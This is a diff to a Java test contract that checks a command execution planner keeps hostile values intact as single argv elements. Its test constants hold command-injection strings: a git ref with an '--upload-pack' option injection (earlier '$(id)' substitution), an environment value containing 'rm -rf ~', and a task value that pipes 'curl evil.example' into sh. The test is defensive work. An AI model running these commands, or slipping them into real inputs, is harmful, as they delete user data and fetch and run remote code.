@@ -37,7 +37,8 @@ public abstract class ExecutionPlannerContract {
     /** Only the payload carries this, so argv holding it means the payload leaked. */
     private static final String PAYLOAD_MARK = "payload-only-7f3a9c";
     /** Each value below is hostile to a shell or a command line; its marker sits in its middle. */
-    private static final String HOSTILE_REF = "evil/$(id);`id`|x${IFS}y";
+    /** The worst a ref can hold once git and the robot (no shell metacharacters) have checked it. */
+    private static final String HOSTILE_REF = "evil/x--upload-pack=#%0a,y";
     private static final String HOSTILE_ENVIRONMENT = "prod && rm -rf ~ 'a b' \"c\"";
     private static final String HOSTILE_TASK = "deploy; curl evil.example | sh \"$(id)\" --force";
 
@@ -126,7 +127,7 @@ public abstract class ExecutionPlannerContract {
             List<String> argv = actual.get(i).argv();
             assertThat(argv).as("argv of step %d", i).hasSameSizeAs(expected.get(i).argv());
             assertThat(argv).as("argv of step %d: a hostile value is split across elements", i).allSatisfy(element -> {
-                assertWholeOrAbsent(element, HOSTILE_REF, "`id`|x");
+                assertWholeOrAbsent(element, HOSTILE_REF, "--upload-pack=#");
                 assertWholeOrAbsent(element, HOSTILE_ENVIRONMENT, "rm -rf ~");
                 assertWholeOrAbsent(element, HOSTILE_TASK, "curl evil.example");
             });
